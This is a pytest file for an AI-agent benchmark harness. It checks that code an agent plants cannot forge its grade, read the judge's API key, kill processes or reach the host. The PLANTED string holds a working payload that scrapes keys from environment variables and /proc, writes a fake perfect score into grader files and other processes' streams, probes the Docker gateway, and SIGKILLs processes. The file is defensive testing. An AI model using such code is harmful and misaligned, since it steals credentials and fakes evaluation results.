"""The verdict is the harness's: code the agent wrote runs during grading without power over the result,
the judge's key never enters the grader container, and --regrade reaches the judge.

An agent plays the attacker: it plants code at the top of the module that the evaluator of
sde-fix-median-bug runs (its tests, its hidden cases), leaving the bug unfixed."""

from __future__ import annotations

import json
import shutil
import sys
from pathlib import Path

import pytest

from support import AGENTS, TASK_SPECS, add_agent

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
from fake_llm import ORACLE_RULES, FakeLLM  # noqa: E402

pytestmark = pytest.mark.docker
FAKE_KEY = "sk-verdict-test-0123456789abcdef"

# Runs wherever the evaluator runs the agent's stats.py; reports on its last line, then exits 3 (so
# the evaluator logs that line as the checkpoint's reason).
PLANTED = r'''
import glob as _glob, json as _json, os as _os, signal as _signal, socket as _socket, sys as _sys
_keys, _wrote, _killed, _reached = [], [], [], []
for _name, _value in _os.environ.items():
    if "LITELLM" in _name or "KEY" in _name:
        _keys.append(f"env {_name}={_value}")
for _path in _glob.glob("/proc/[0-9]*/environ") + _glob.glob("/proc/[0-9]*/cmdline"):
    try:
        _data = open(_path, "rb").read()
    except OSError:
        continue
    _keys += [f"{_path} {_e.decode(errors='replace')}" for _e in _data.split(b"\0") if b"LITELLM_API_KEY" in _e]
_marks = {"checkpoints": [{"total": 1, "result": 1}, {"total": 1, "result": 1}, {"total": 2, "result": 2}],
          "final_score": {"total": 4, "result": 4}, "score": 1.0, "judge_not_configured": None, "notes": {}}
for _path in ["/grader/result.json", "/grader/judge.jsonl"]:
    try:
        with open(_path, "w") as _f:
            _f.write(_json.dumps(_marks))
        _wrote.append(_path)
    except OSError:
        pass
_line = (_json.dumps({"result": _marks, "exit": 0}) + "\n").encode()
for _path in _glob.glob("/proc/[0-9]*/fd/*"):  # every stream of every other process: the result channel?
    if _path.startswith(f"/proc/{_os.getpid()}/"):
        continue
    try:
        _fd = _os.open(_path, _os.O_WRONLY | _os.O_NONBLOCK)
        _os.write(_fd, _line)
        _os.close(_fd)
        _wrote.append(_path)
    except OSError:
        pass
_hosts = ["host.docker.internal", "172.17.0.1"]
try:
    for _row in open("/proc/net/route").read().splitlines()[1:]:
        _fields = _row.split()
        if _fields[1] == "00000000":
            _hosts.append(_socket.inet_ntoa(bytes.fromhex(_fields[2])[::-1]))
except OSError:
    pass
for _host in _hosts:
    try:
        _socket.create_connection((_host, __PORT__), timeout=3).close()
        _reached.append(_host)
    except OSError:
        pass
for _path in _glob.glob("/proc/[0-9]*"):
    _pid = int(_path.rsplit("/", 1)[1])
    if _pid not in (1, _os.getpid()):
        try:
            _os.kill(_pid, _signal.SIGKILL)
            _killed.append(_pid)
        except OSError:
            pass
print(f"ATTACK keys={_keys} wrote={_wrote} killed={_killed} reached={_reached}", flush=True)
_os._exit(3)
'''

ATTACKER = """#!/bin/bash
cat > /tmp/planted.py <<'PLANTED'
{planted}
PLANTED
cat /tmp/planted.py /workspace/stats_lib/stats.py > /tmp/stats.py
cp /tmp/stats.py /workspace/stats_lib/stats.py
echo planted
"""


@pytest.fixture
def project(pytester, base_image_tag, monkeypatch):
    for task in ("sde-fix-median-bug", "hr-welcome-email"):
        shutil.copytree(TASK_SPECS / "company" / task, pytester.path / "task_specs" / "company" / task)
    shutil.copytree(AGENTS, pytester.path / "agents")
    monkeypatch.setenv("AGENTBENCH_BASE_IMAGE", "")
    return pytester.path


@pytest.fixture
def judge_with_a_secret_key(monkeypatch):
    with FakeLLM(ORACLE_RULES) as llm:
        monkeypatch.setenv("LITELLM_BASE_URL", llm.url)
        monkeypatch.setenv("LITELLM_API_KEY", FAKE_KEY)
        monkeypatch.setenv("LITELLM_MODEL", "gpt-4o")
        yield llm


def item_result(project: Path, task: str) -> dict:
    [path] = project.glob(f"runs/*/{task}/result.json")
    return json.loads(path.read_text())


def files_holding(root: Path, text: str) -> list[Path]:
    return [p for p in root.rglob("*") if p.is_file() and text.encode() in p.read_bytes()]


def test_code_the_agent_planted_neither_forges_the_verdict_nor_reads_the_key(pytester, project,
                                                                             judge_with_a_secret_key):
    planted = PLANTED.replace("__PORT__", str(judge_with_a_secret_key.port))
    add_agent(project, "attacker", ATTACKER.format(planted=planted))
    run = pytester.runpytest_subprocess("task_specs", "--agent=attacker", "-k", "sde-fix-median-bug",
                                        "-p", "no:cacheprovider")
    result = item_result(project, "sde-fix-median-bug")
    assert result["outcome"] == "failed", run.stdout.str()[-3000:]  # graded (not an error), and not passed
    assert not result["grade"]["passed"] and result["grade"]["points"] < 4
    # The planted code ran (as the agent, for the evaluator) and found nothing to use.
    log = (Path(result["folder"]) / "grader" / "evaluator.log").read_text()
    reports = [line for line in log.splitlines() if "ATTACK " in line]
    assert reports, log[-3000:]
    for report in reports:
        assert "keys=[] wrote=[] killed=[] reached=[]" in report, report
    assert files_holding(project / "runs", FAKE_KEY) == []
    assert FAKE_KEY not in run.stdout.str()


EVALUATOR_THAT_DIES = '''
import os, signal
from scoring import Checkpoint, Result

def grade_checkpoints(trajectory=""):
    os.kill(os.getpid(), signal.SIGKILL)
    return Result([Checkpoint(1, 1)])
'''


def test_an_evaluator_whose_process_dies_is_an_error_not_a_pass(pytester, project):
    task = project / "task_specs" / "company" / "dies"
    task.mkdir()
    (task / "task.md").write_text("Do nothing.\n")
    (task / "evaluator.py").write_text(EVALUATOR_THAT_DIES)
    run = pytester.runpytest_subprocess("task_specs", "--agent=nop", "-k", "dies", "-p", "no:cacheprovider")
    run.assert_outcomes(errors=1)
    run.stdout.fnmatch_lines(["*ended (exit code -9) without reporting a result*"])


def test_regrade_asks_the_judge_and_counts_only_the_calls_it_answered(pytester, project, judge_with_a_secret_key,
                                                                       monkeypatch):
    first = pytester.runpytest_subprocess("task_specs", "--agent=oracle", "-k", "hr-welcome-email",
                                          "-p", "no:cacheprovider")
    first.assert_outcomes(passed=1)
    [group] = project.glob("runs/*_run-group_*")
    asked = len(judge_with_a_secret_key.requests)

    again = pytester.runpytest_subprocess("--regrade", str(group), "task_specs", "-k", "hr-welcome-email",
                                          "-p", "no:cacheprovider")
    again.assert_outcomes(passed=1)
    assert len(judge_with_a_secret_key.requests) == asked + 1  # the regrade reached the judge
    usage = item_result(project, "hr-welcome-email")["grade"]["details"]["judge_usage"]
    assert usage["calls"] == 1 and usage["failed_calls"] == 0

    monkeypatch.setenv("LITELLM_BASE_URL", "http://127.0.0.1:9/v1")  # nothing listens: every call fails
    broken = pytester.runpytest_subprocess("--regrade", str(group), "task_specs", "-k", "hr-welcome-email",
                                          "-p", "no:cacheprovider")
    assert broken.ret == pytest.ExitCode.TESTS_FAILED
    assert item_result(project, "hr-welcome-email")["outcome"] == "failed"  # its judged checkpoint: not passed
    details = item_result(project, "hr-welcome-email")["grade"]["details"]
    assert details["judge"] and all(call["answer"] is None for call in details["judge"])
    assert details["judge_usage"]["calls"] == 0 and details["judge_usage"]["failed_calls"] == len(details["judge"])
    summary = json.loads((group / "summary.json").read_text())
    [agent] = summary["agents"]
    assert agent["judge_usage"]["calls"] == 0, agent["judge_usage"]  # failed calls are not judge usage
    assert FAKE_KEY not in "".join(p.read_text(errors="replace") for p in group.rglob("*") if p.is_file())
